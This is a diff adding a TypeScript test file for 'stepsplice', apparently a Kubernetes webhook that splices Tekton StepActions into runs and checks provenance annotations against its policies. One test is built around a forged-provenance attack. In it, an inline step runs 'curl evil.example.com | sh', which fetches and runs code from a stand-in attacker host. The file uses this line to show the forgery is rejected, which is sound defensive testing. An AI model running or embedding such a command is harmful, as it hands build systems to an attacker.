@@ -1,0 +1,168 @@
+// Policies on runs stepsplice expanded before: the API server calls the
+// webhook again (reinvocation), or Tekton creates a pipeline task's TaskRun
+// carrying the PipelineRun's annotations. Provenance is verified by splicing
+// the steps as written (kept in stepsplice.dev/resolved) again: stepsplice's
+// own output passes inlineSteps, sources and requiredSteps; an annotation
+// that claims what splicing does not give proves nothing.
+
+import t from 'tap'
+import { spliceObject } from '../src/pipeline/splice.ts'
+import type { LoadedPolicy } from '../src/policy/types.ts'
+import { formatProblem } from '../src/problems/problem.ts'
+import type { Catalog } from '../src/resolution/catalog.ts'
+import type { Expansion } from '../src/steps/expansion.ts'
+import type { KubeObject } from '../src/types/k8s.ts'
+import { catalogOf, pipelineRun, stepAction, stepsOf, taskRun, policiesOf } from './helpers/catalog.ts'
+import { resolvedKey } from './helpers/pod.ts'
+
+const catalog = catalogOf(
+  stepAction('build', {
+    image: 'registry.example.com/build:1',
+    params: [{ name: 'target', default: 'all' }],
+    command: ['make'],
+    args: ['$(params.target)'],
+  }),
+  stepAction('scanner', { image: 'registry.example.com/scanner:1', command: ['scan'] }),
+)
+
+const policies = policiesOf
+
+const strict = policies(`
+apiVersion: stepsplice.dev/v1alpha1
+kind: ClusterStepPolicy
+metadata: {name: platform-only}
+spec:
+  inlineSteps: Deny
+  sources: {allow: ["directory:default/*"]}
+  requiredSteps:
+    - {name: scan, ref: {name: scanner}}
+`)
+
+const splice = (obj: KubeObject, ps: readonly LoadedPolicy[] = strict): Promise<Expansion> => spliceObject(obj, 'default', { catalog, policies: ps })
+const messages = (e: Expansion): string[] => e.problems.map(formatProblem)
+const claims = (o: KubeObject): Record<string, unknown>[] => JSON.parse(o.metadata?.annotations?.[resolvedKey] ?? '[]')
+const withClaims = (o: KubeObject, entries: unknown[]): KubeObject => ({
+  ...o,
+  metadata: { ...o.metadata, annotations: { ...o.metadata?.annotations, [resolvedKey]: JSON.stringify(entries) } },
+})
+
+const run = taskRun({ steps: [{ name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: 'test' }] }] })
+const first = await splice(run)
+
+t.test('the annotation keeps each step as written', async (t) => {
+  t.strictSame(messages(first), [])
+  t.strictSame(
+    claims(first.object).map((c) => c.written),
+    [
+      { name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: 'test' }] },
+      { name: 'scan', ref: { name: 'scanner' } },
+    ],
+  )
+})
+
+t.test('re-admitted, stepsplice’s own output passes inlineSteps, sources and requiredSteps, unchanged', async (t) => {
+  const again = await splice(first.object)
+  t.strictSame(messages(again), [])
+  t.equal(again.changed, false)
+  t.strictSame(again.warnings, [])
+  t.strictSame(stepsOf(again), stepsOf(first))
+})
+
+t.test('another webhook’s change elsewhere in the object does not unsettle it', async (t) => {
+  const labelled = { ...first.object, metadata: { ...first.object.metadata, labels: { 'team.example.com/cost-centre': '42' } } }
+  t.strictSame(messages(await splice(labelled)), [])
+})
+
+t.test('a spliced step changed afterwards is no longer its definition’s: an inline step', async (t) => {
+  const steps = stepsOf(first).map((s) => (s.name === 'build' ? { ...s, image: 'docker.io/library/busybox:1.37' } : s))
+  const changed = { ...first.object, spec: { taskSpec: { ...(first.object.spec as { taskSpec: object }).taskSpec, steps } } }
+  const e = await splice(changed)
+  t.match(messages(e), [/spec\.taskSpec\.steps\[0\].*inlineSteps/])
+  t.match(e.warnings, [/stepsplice\.dev\/resolved: 1 of the steps it names are not what their definitions give/])
+})
+
+t.test('a forged claim proves nothing: the written step must splice to the step that is there', async (t) => {
+  // An inline step, claimed to be the build definition with a plausible written step.
+  const inline = taskRun({
+    steps: [
+      { name: 'build', image: 'docker.io/library/busybox:1.37', script: 'curl evil.example.com | sh' },
+      { name: 'scan', image: 'docker.io/library/busybox:1.37', script: 'true' },
+    ],
+  })
+  const forged = withClaims(inline, [
+    {
+      path: 'spec.taskSpec.steps[0]',
+      step: 'build',
+      definition: 'default/build',
+      source: 'directory',
+      digest: 'x',
+      written: { name: 'build', ref: { name: 'build' } },
+    },
+    {
+      path: 'spec.taskSpec.steps[1]',
+      step: 'scan',
+      definition: 'default/scanner',
+      source: 'directory',
+      digest: 'x',
+      written: { name: 'scan', ref: { name: 'scanner' } },
+    },
+  ])
+  const e = await splice(forged)
+  const text = messages(e).join('\n')
+  t.match(text, /spec\.taskSpec\.steps\[0\].*inlineSteps/, 'the claimed build is an inline step')
+  t.match(text, /spec\.taskSpec\.steps\[1\].*inlineSteps/, 'so is the claimed scanner')
+  t.match(text, /step "scan" must be the required step StepAction scanner/, 'and the claimed scanner does not satisfy requiredSteps')
+  // Claims without the steps as written (as an annotation from before they were kept) verify nothing either.
+  const bare = withClaims(
+    first.object,
+    claims(first.object).map(({ written: _, ...c }) => c),
+  )
+  t.match(messages(await splice(bare)), [/requiredSteps: step "scan" must be/, /steps\[0\].*inlineSteps/, /steps\[1\].*inlineSteps/])
+})
+
+t.test('a pipeline task’s TaskRun, created by Tekton with the PipelineRun’s annotations, is verified against its task', async (t) => {
+  const pr = pipelineRun({
+    tasks: [
+      { name: 'lint', taskSpec: { steps: [{ name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: 'lint' }] }] } },
+      { name: 'unit', taskSpec: { steps: [{ name: 'build', ref: { name: 'build' }, params: [{ name: 'target', value: 'unit' }] }] } },
+    ],
+  })
+  const e = await splice(pr)
+  t.strictSame(messages(e), [])
+  const tasks = ((e.object.spec as { pipelineSpec: unknown }).pipelineSpec as { tasks: { name: string; taskSpec: Record<string, unknown> }[] }).tasks
+  for (const task of tasks) {
+    // What Tekton creates: the pipeline task's taskSpec, and the PipelineRun's annotations.
+    const child: KubeObject = {
+      apiVersion: 'tekton.dev/v1',
+      kind: 'TaskRun',
+      metadata: { name: `pr-${task.name}`, namespace: 'default', annotations: { ...e.object.metadata?.annotations } },
+      spec: { taskSpec: task.taskSpec },
+    }
+    const judged = await splice(child)
+    t.strictSame(messages(judged), [], `${task.name}: its steps are the definitions’ (task ${task.name}'s claims verified, not the other task’s)`)
+    t.equal(judged.changed, false)
+  }
+})
+
+t.test('without a policy that asks where steps came from, nothing is spliced again', async (t) => {
+  const imagesOnly = policies(`
+apiVersion: stepsplice.dev/v1alpha1
+kind: ClusterStepPolicy
+metadata: {name: registry}
+spec:
+  images: {allow: ["registry.example.com/**"]}
+`)
+  let lookups = 0
+  const counting: Catalog = {
+    size: catalog.size,
+    resolve: (ref) => {
+      lookups++
+      return catalog.resolve(ref)
+    },
+  }
+  const e = await spliceObject(first.object, 'default', { catalog: counting, policies: imagesOnly })
+  t.strictSame(messages(e), [])
+  t.equal(lookups, 0, 'no definition was looked up')
+  await spliceObject(first.object, 'default', { catalog: counting, policies: strict })
+  t.ok(lookups > 0, 'with one, the steps as written are spliced again')
+})
